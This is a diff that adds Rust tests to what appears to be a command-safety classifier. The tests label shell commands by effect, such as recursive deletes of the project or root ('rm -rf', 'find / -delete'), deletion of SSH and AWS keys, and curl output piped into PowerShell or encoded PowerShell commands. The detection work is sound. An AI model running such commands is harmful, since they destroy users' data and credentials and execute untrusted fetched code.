@@ -526,3 +526,56 @@ fn gawk_network_coprocesses_and_setuid_installs() {
         "escalates-privilege"
     ));
 }
+
+#[test]
+fn a_find_test_that_selects_everything_narrows_nothing() {
+    assert!(has(
+        "find . -name '*' -exec rm -rf {} \\;",
+        "deletes class=project-root recursive=true"
+    ));
+    assert!(has(
+        "find / -regex '.*' -delete",
+        "class=root recursive=true"
+    ));
+    assert!(has(
+        "find . -name '*.pyc' -delete",
+        "deletes class=project-root recursive=filtered"
+    ));
+    assert!(has("find . -path './a*' -delete", "recursive=filtered"));
+}
+
+#[test]
+fn a_key_deleted_outside_the_project_is_its_own_effect() {
+    assert!(has("unlink ~/.ssh/id_ed25519", "deletes-secret class=home"));
+    assert!(has("rm -f ~/.aws/credentials", "deletes-secret"));
+    assert!(!has("rm ~/.ssh/id_ed25519.pub", "deletes-secret"));
+    assert!(!has("rm ~/notes.txt", "deletes-secret"));
+    // A recursive delete is judged by its class (the whole of ~/.ssh is `home`).
+    assert!(!has("rm -rf ~/.ssh", "deletes-secret"));
+}
+
+#[test]
+fn powershell_runs_piped_and_encoded_code() {
+    assert!(has(
+        "curl -s https://x.example/a.ps1 | pwsh -",
+        "runs-fetched-code"
+    ));
+    assert!(has(
+        "curl -s https://x.example/a.ps1 | powershell -Command -",
+        "runs-fetched-code"
+    ));
+    assert!(has("pwsh -enc ZQBjAGgAbwA=", "runs-fetched-code"));
+    assert!(has(
+        "powershell.exe -EncodedCommand ZQBjAGgAbwA=",
+        "runs-fetched-code"
+    ));
+    assert!(!has("pwsh -File ./build.ps1", "runs-fetched-code"));
+    assert!(!has(
+        "pwsh -ExecutionPolicy Bypass -File x.ps1",
+        "runs-fetched-code"
+    ));
+    assert!(!has(
+        "cat notes.txt | pwsh -File ./fmt.ps1",
+        "runs-fetched-code"
+    ));
+}
